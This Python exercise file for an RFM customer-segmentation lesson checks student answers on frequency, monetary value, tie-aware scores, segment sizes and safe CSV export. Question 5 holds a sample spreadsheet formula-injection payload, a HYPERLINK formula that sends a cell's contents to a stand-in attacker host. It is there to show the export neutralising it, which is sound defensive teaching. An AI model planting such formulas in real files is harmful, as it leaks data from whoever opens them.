"""Exercises of lesson 05, *RFM segmentation*: the two summaries, scores with ties, segments, safe exports.

Expected values are computed from the course's database with :mod:`crmlab.analysis.rfm` and
:mod:`crmlab.export` on the first check, never typed in; each known mistake is computed the
wrong way.
"""

from __future__ import annotations

import csv
import tempfile
from functools import cache
from pathlib import Path

import pandas as pd

from crmlab.analysis import rfm
from crmlab.datasets import practice_crm
from crmlab.exercises import CompareOptions, Mistake, Question, Reflection
from crmlab.exercises.lessons import shown_by
from crmlab.export import to_safe_csv

TITLE = "RFM segmentation"
AS_OF = "2025-12-31"
TIMEZONE = "Asia/Tehran"
#: The name a hostile visitor typed into the web shop's sign-up form (question 5).
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?id="&A2, "Claim your prize")'
_SERIES = CompareOptions(rtol=1e-9)


@cache
def _crm():
    return practice_crm(tables=["orders", "customers"])


def _purchases(statuses=("completed",), tz: str = TIMEZONE) -> pd.DataFrame:
    orders = _crm().orders
    done = orders[orders["status"].isin(statuses)]
    return done.assign(ordered_local=done["ordered_at"].dt.tz_convert(tz))


def _modelling(purchases: pd.DataFrame | None = None) -> pd.DataFrame:
    purchases = _purchases() if purchases is None else purchases
    return rfm.rfm_summary(purchases, datetime_col="ordered_local", monetary_value_col="total_cents",
                           observation_period_end=AS_OF)  # fmt: skip


def _summary(purchases: pd.DataFrame | None = None) -> pd.DataFrame:
    purchases = _purchases() if purchases is None else purchases
    return rfm.customer_summary(purchases, datetime_col="ordered_local", as_of=AS_OF)


def _daily_totals(tz: str = TIMEZONE) -> pd.Series:
    p = _purchases(tz=tz)
    day = p["ordered_local"].dt.tz_localize(None).dt.normalize()
    return p.groupby(["customer_id", day])["total_cents"].sum()


# ---------------------------------------------------------------- q1: frequency


def _frequency() -> pd.Series:
    return _modelling()["frequency"]


def _frequency_with_first() -> pd.Series:
    return _frequency() + 1


def _frequency_per_order() -> pd.Series:
    return (_summary()["n_orders"] - 1).astype(float)


def _orders_with_first() -> pd.Series:
    return _summary()["n_orders"].astype(float)


def _frequency_utc() -> pd.Series:
    p = _purchases()
    return rfm.rfm_summary(p, datetime_col="ordered_at", observation_period_end=AS_OF)["frequency"]


# ---------------------------------------------------------------- q2: monetary value


def _monetary() -> pd.Series:
    return _modelling()["monetary_value"]


def _monetary_all_days() -> pd.Series:
    return _daily_totals().groupby(level="customer_id").mean()


def _monetary_all_days_zero_for_one_timers() -> pd.Series:
    return _monetary_all_days().where(_frequency() > 0, 0.0)


def _monetary_per_order() -> pd.Series:
    p = _purchases().sort_values(["customer_id", "ordered_at"])
    repeat = p[p.groupby("customer_id").cumcount() > 0]
    mean = repeat.groupby("customer_id")["total_cents"].mean()
    return mean.reindex(_monetary().index, fill_value=0.0)


def _monetary_all_orders() -> pd.Series:
    return _purchases().groupby("customer_id")["total_cents"].mean()


def _nan_for_one_timers(answer) -> bool:
    expected = _monetary()
    return bool(answer.isna().sum() == (expected == 0).sum() > 0 and answer.fillna(0).sub(expected).abs().max() < 1e-6)


# ---------------------------------------------------------------- q3: F scores with ties


def _f_score() -> pd.Series:
    return rfm.quantile_score(_summary()["n_orders"])


def _scored_ranks(method: str) -> pd.Series:
    """The question's formula on another rank: 1 + floor(5 * (rank - 1) / n)."""
    orders = _summary()["n_orders"]
    return (1 + (orders.rank(method=method) - 1) * 5 // len(orders)).astype("int64")


def _f_score_by_id() -> pd.Series:
    """The old rule: equal numbers of orders split across scores by customer id (equal-sized groups)."""
    return pd.qcut(_summary()["n_orders"].rank(method="first"), 5, labels=False) + 1


def _f_score_by_reversed_id() -> pd.Series:
    """The same split with the customer ids in the other order: other customers move up."""
    orders = _summary()["n_orders"]
    flipped = orders.iloc[::-1].rank(method="first")
    return (pd.qcut(flipped, 5, labels=False) + 1).reindex(orders.index)


def _f_score_by_row_order() -> pd.Series:
    """Equal numbers of orders split by the order of shuffled rows, then the question's formula."""
    orders = _summary()["n_orders"]
    shuffled = orders.sample(frac=1.0, random_state=0)
    return (1 + (shuffled.rank(method="first") - 1) * 5 // len(orders)).astype("int64").reindex(orders.index)


def _split_by_id(answer) -> bool:
    """Customers with the same number of orders got different scores: something other than the value decided."""
    if not isinstance(answer, pd.Series) or not pd.api.types.is_numeric_dtype(answer):
        return False
    orders = _summary()["n_orders"]
    mine = answer.reindex(orders.index)
    return bool(mine.notna().all() and mine.groupby(orders).nunique().gt(1).any())


def _f_score_qcut_values_dropped() -> pd.Series:
    """`duplicates='drop'` on the numbers of orders, as the lesson warns: bins merge, fewer than five scores remain."""
    return pd.qcut(_summary()["n_orders"], 5, labels=False, duplicates="drop") + 1


def _f_score_reversed() -> pd.Series:
    return 6 - _f_score()


def _f_score_ranked_descending() -> pd.Series:
    """1 = best: the customers ranked from the most orders down, ties sharing the rank."""
    orders = _summary()["n_orders"]
    return (1 + (orders.rank(method="min", ascending=False) - 1) * 5 // len(orders)).astype("int64")


def _f_score_from_zero() -> pd.Series:
    return _f_score() - 1


def _fewer_scores(answer) -> bool:
    return isinstance(answer, pd.Series) and 0 < answer.nunique() < 5


def _intervals(answer) -> bool:
    """Bins, not scores: what `pd.qcut` returns without `labels=`."""
    if not isinstance(answer, pd.Series) or answer.empty:
        return False
    if isinstance(answer.dtype, pd.CategoricalDtype):
        return isinstance(answer.cat.categories, pd.IntervalIndex)
    return isinstance(answer.dtype, pd.IntervalDtype) or isinstance(answer.iloc[0], pd.Interval)


def _f_score_bins() -> pd.Series:
    """`pd.qcut` of the ranks without labels (rank 'min' stops there: over a fifth are one-time buyers)."""
    return pd.qcut(_summary()["n_orders"].rank(method="first"), 5)


# ---------------------------------------------------------------- q4: segment size


def _at_risk(table: pd.DataFrame, name: str = "At risk") -> int:
    return int((table["segment"] == name).sum())


def _segment_size() -> int:
    return _at_risk(rfm.rfm_table(_summary()))


def _segment_size_lifetimes_recency() -> int:
    table = rfm.rfm_table(_modelling(), recency="recency", frequency="frequency", monetary="monetary_value")
    return _at_risk(table)


def _segment_size_misspelt() -> int:
    """'At Risk', 'at risk', 'At-Risk' or 'at_risk': no segment is spelled so, and nobody matches."""
    return _at_risk(rfm.rfm_table(_summary()), name="At Risk")


def _segment_size_all_orders() -> int:
    return _at_risk(rfm.rfm_table(_summary(_purchases(statuses=("completed", "cancelled", "returned")))))


# ---------------------------------------------------------------- q5: a neutralised cell


def _safe_cell(column: int = 0) -> str:
    folder = Path(tempfile.mkdtemp(prefix="crmlab-l05-"))
    path = to_safe_csv(pd.DataFrame({"first_name": [HOSTILE_NAME], "phone": ["+989121234567"]}),
                       folder / "signup.csv")  # fmt: skip
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))[1][column]


def _phone_cell() -> str:
    return _safe_cell(column=1)


QUESTIONS = [
    Question(
        "q1",
        "Frequency as lifetimes and pymc-marketing define it: a Series indexed by `customer_id` with the number "
        "of *repeat* purchase days of each customer, counting days by the company's clock (`ordered_local`).",
        expected=_frequency,
        hints=[
            "Group purchases by day first: two orders on the same day are one purchase. "
            "`purchases['ordered_local'].dt.date` gives the local day.",
            "Count the distinct days per customer (`.nunique()`), then leave out the first one.",
            "`purchases.groupby('customer_id')['ordered_local'].apply(lambda t: t.dt.date.nunique()) - 1`, or "
            "`rfm.rfm_summary(purchases, datetime_col='ordered_local', observation_period_end=AS_OF)['frequency']`.",
        ],
        solution="days = purchases['ordered_local'].dt.date\n"
        "frequency = days.groupby(purchases['customer_id']).nunique() - 1",
        mistakes=[
            Mistake("You counted the first purchase as a repeat purchase. `frequency` counts the purchase days "
                    "*after* the first one: subtract 1 from the number of distinct days.",
                    expected=_frequency_with_first),  # fmt: skip
            Mistake("You counted orders, not purchase days: two orders on the same day are one purchase. Count "
                    "distinct days per customer (`.dt.date` then `.nunique()`).",
                    expected=_frequency_per_order),  # fmt: skip
            Mistake("You counted every order, the first one included. `frequency` counts repeat purchase *days*: "
                    "the distinct local days of each customer minus the first one.",
                    expected=_orders_with_first),  # fmt: skip
            Mistake("Your days follow UTC: an order placed just after midnight in Tehran lands on the day before. "
                    "Use the local time, `ordered_local`.",
                    expected=_frequency_utc),  # fmt: skip
        ],
        compare=_SERIES,
    ),
    Question(
        "q2",
        "Monetary value as lifetimes defines it, in the unit of `total_cents` (whole rials on the practice company): "
        "a Series indexed by `customer_id` with the average spend per *repeat* purchase day (the first purchase day "
        "left out; 0 for customers who never came back).",
        expected=_monetary,
        hints=[
            "Add up each customer's orders per local day first: "
            "`purchases.groupby(['customer_id', purchases['ordered_local'].dt.date])['total_cents'].sum()`.",
            "Drop each customer's first day: keep the rows where "
            "`daily.groupby(level='customer_id').cumcount() > 0`.",
            "Average what is left per customer, then give the customers with no repeat day a 0: "
            "`.reindex(daily.index.unique('customer_id'), fill_value=0)`.",
        ],
        solution="daily = purchases.groupby(['customer_id', purchases['ordered_local'].dt.date])['total_cents'].sum()\n"
        "repeat = daily[daily.groupby(level='customer_id').cumcount() > 0]\n"
        "monetary = repeat.groupby(level='customer_id').mean().reindex(daily.index.unique('customer_id'), "
        "fill_value=0)",
        mistakes=[
            Mistake("You averaged over all purchase days, the first one included. lifetimes leaves the first "
                    "purchase out: the models describe what customers spend *after* they were acquired.",
                    expected=_monetary_all_days),  # fmt: skip
            Mistake("You averaged over all purchase days, the first one included, and gave the one-time buyers 0. "
                    "Leave each customer's first day out before you average: keep the days where "
                    "`daily.groupby(level='customer_id').cumcount() > 0`.",
                    expected=_monetary_all_days_zero_for_one_timers),  # fmt: skip
            Mistake("You averaged per order. Two orders on the same day are one purchase: add them up per day "
                    "before you average.",
                    expected=_monetary_per_order),  # fmt: skip
            Mistake("You averaged every order, the first one included. Add the orders up per local day, leave "
                    "out each customer's first day, then average the rest.",
                    expected=_monetary_all_orders),  # fmt: skip
            Mistake("Customers who never came back have NaN in your Series; lifetimes gives them 0. Fill the "
                    "gaps with `.reindex(..., fill_value=0)` or `.fillna(0)`.",
                    when=shown_by(_nan_for_one_timers,
                                  example=lambda: _monetary().where(_frequency() > 0))),  # fmt: skip
            Mistake("Your values are a tenth of the right ones: amounts in toman (1 toman = 10 rials), the unit "
                    "prices are quoted in. The data holds whole rials (`total_cents` keeps its old name); give "
                    "the averages in rials, as the column holds them, with nothing divided.",
                    expected=lambda: _monetary() / 10),  # fmt: skip
        ],
        compare=_SERIES,
    ),
    Question(
        "q3",
        "F scores that do not depend on the customer ids: a Series indexed by `customer_id` scoring "
        "`summary['n_orders']` from 1 to 5, more orders scoring higher, equal numbers of orders sharing one "
        "score: a customer's score is 1 + floor(5 x k / n), where k is the number of customers with *fewer* "
        "orders and n the number of customers (`rfm.quantile_score`'s default rule).",
        expected=_f_score,
        hints=[
            "`pd.qcut(summary['n_orders'], 5)` cuts at interpolated quantiles of the values, and stops when "
            "edges collide; `rank(method='first')` splits equal customers by their id. Neither is the rule.",
            "The number of customers with fewer orders is the rank where a block of equal values starts, "
            "minus 1: `summary['n_orders'].rank(method='min') - 1`.",
            "`1 + (summary['n_orders'].rank(method='min') - 1) * 5 // len(summary)`, or "
            "`rfm.quantile_score(summary['n_orders'])`.",
        ],
        solution="fewer = summary['n_orders'].rank(method='min') - 1  # customers with fewer orders\n"
        "f_score = (1 + fewer * 5 // len(summary)).astype(int)",
        mistakes=[
            Mistake("Your scores split customers with the same number of orders by their customer id "
                    "(`rank(method='first')`): five equal groups, but renumber the customers and some of them "
                    "change score, and segment, for no reason of their own. Equal values must share a score: "
                    "count the customers with *fewer* orders, `rank(method='min') - 1`.",
                    expected=_f_score_by_id),  # fmt: skip
            Mistake("Your scores split customers with the same number of orders by their customer id, the other "
                    "way round: the ids decide who moves up. Equal values must share a score: count the "
                    "customers with *fewer* orders, `rank(method='min') - 1`.",
                    expected=_f_score_by_reversed_id),  # fmt: skip
            Mistake("You placed each block of equal values at its middle (`rank(method='average')`): the rule "
                    "counts the customers with *fewer* orders, which is where the block starts: "
                    "`rank(method='min')`.",
                    expected=lambda: _scored_ranks("average")),  # fmt: skip
            Mistake("You placed each block of equal values at its end (`rank(method='max')`), so one-time buyers "
                    "do not all score 1. The rule counts the customers with *fewer* orders: `rank(method='min')`.",
                    expected=lambda: _scored_ranks("max")),  # fmt: skip
            Mistake("`rank(method='dense')` counts distinct *values* below, not customers: the rule needs the "
                    "number of customers with fewer orders, `rank(method='min') - 1`.",
                    expected=lambda: _scored_ranks("dense")),  # fmt: skip
            Mistake("Your ranking runs the wrong way: 1 went to the customers with the most orders. In RFM, 5 is "
                    "the best score: rank ascending (the default), so that more orders score higher.",
                    expected=_f_score_ranked_descending),  # fmt: skip
            Mistake("Your scores use fewer than five values: ties collapsed some bins (`duplicates='drop'` "
                    "merges them silently). Score the ranks, not the values.",
                    when=shown_by(_fewer_scores, example=_f_score_qcut_values_dropped)),  # fmt: skip
            Mistake("Your scores run the wrong way: more orders must give a *higher* F score.",
                    expected=_f_score_reversed),  # fmt: skip
            Mistake("Your scores run from 0 to 4: add 1.",
                    expected=_f_score_from_zero),  # fmt: skip
            Mistake("Your values are bins, pandas Intervals written `(low, high]`, not scores: `pd.qcut` returns "
                    "them unless you say how to label them, and cutting ranks into bins is not the rule anyway. "
                    "Count the customers with fewer orders, `rank(method='min') - 1`, and turn the count into a "
                    "score with the formula.",
                    when=shown_by(_intervals, example=_f_score_bins)),  # fmt: skip
            Mistake("Customers with the same number of orders got different scores: something other than their "
                    "orders decided (their id, or the order of the rows). Equal values must share a score: "
                    "`rank(method='min')`.",
                    when=shown_by(_split_by_id, example=_f_score_by_row_order)),  # fmt: skip
        ],
        compare=_SERIES,
        correct_message="Renumber the customers or sort the rows differently: nobody's score moves.",
    ),
    Question(
        "q4",
        "How many customers are in the segment 'At risk', with the business summary of completed orders on "
        "local days, scored and segmented by `rfm.rfm_table`?",
        expected=_segment_size,
        hints=[
            "`table = rfm.rfm_table(summary)` adds the scores and the `segment` column.",
            "Count the rows whose `segment` is 'At risk': `(table['segment'] == 'At risk').sum()`.",
        ],
        solution="table = rfm.rfm_table(summary)\nat_risk = int((table['segment'] == 'At risk').sum())",
        mistakes=[
            Mistake("No customer matched: the segment is spelled exactly 'At risk' (capital A, a space, small r). "
                    "Comparing with 'At Risk', 'at risk', 'At-Risk' or 'at_risk' finds nobody; "
                    "`table['segment'].unique()` lists the names as they are written.",
                    expected=_segment_size_misspelt),  # fmt: skip
            Mistake("You scored lifetimes' `recency` (days from the first to the last purchase) as if it were days "
                    "since the last order. Segment on the business summary: `days_since_last_order`.",
                    expected=_segment_size_lifetimes_recency),  # fmt: skip
            Mistake("Your summary counts cancelled and returned orders as purchases: keep the completed ones.",
                    expected=_segment_size_all_orders),  # fmt: skip
        ],
    ),
    Question(
        "q5",
        "Write the one-row table `signup` (the hostile first name `HOSTILE_NAME` and a phone number) with "
        "`to_safe_csv`, read the file back with the `csv` module, and give the text of the first-name cell "
        "as it arrives.",
        expected=_safe_cell,
        hints=[
            "`path = to_safe_csv(signup, folder / 'signup.csv')` writes it.",
            "Read the text with `path.read_text(encoding='utf-8-sig')` (the file starts with a byte-order mark) "
            "and split it into rows with `list(csv.reader(text.splitlines()))`; row 0 is the header.",
            "The first-name cell is `rows[1][0]`.",
        ],
        solution="path = to_safe_csv(signup, folder / 'signup.csv')\n"
        "rows = list(csv.reader(path.read_text(encoding='utf-8-sig').splitlines()))\n"
        "cell = rows[1][0]",
        mistakes=[
            Mistake("That cell still starts with `=`: a spreadsheet would run it as a formula. Write the file "
                    "with `to_safe_csv`, not `DataFrame.to_csv`.",
                    expected=lambda: HOSTILE_NAME),  # fmt: skip
            Mistake("That is the phone number's cell; the question asks for the first name, the first column.",
                    when=shown_by(lambda answer: answer == "+989121234567", example=_phone_cell)),  # fmt: skip
        ],
    ),
    Reflection(
        "q9",
        "This month's budget pays for one campaign to one segment. Which segment would you choose, with what "
        "message, and why not the Champions?",
        solution="Cannot lose or At risk: they used to buy often and still account for about an eighth of the revenue, "
        "and they are slipping away, so a personal win-back message is worth its cost. Champions buy anyway; "
        "a discount to them mostly gives away margin. Lost customers cost more to win back than they bring.",
        rubric=[
            "Names one segment and the message it gets (what the letter says or offers).",
            "Argues from the segment's scores or revenue share: what the campaign can still change for them.",
            "Says why Champions are a poor use of the budget (they buy anyway: a discount gives away margin).",
            "Mentions how to tell whether it worked (a held-out part of the segment, or the segment's next months).",
        ],
    ),
]
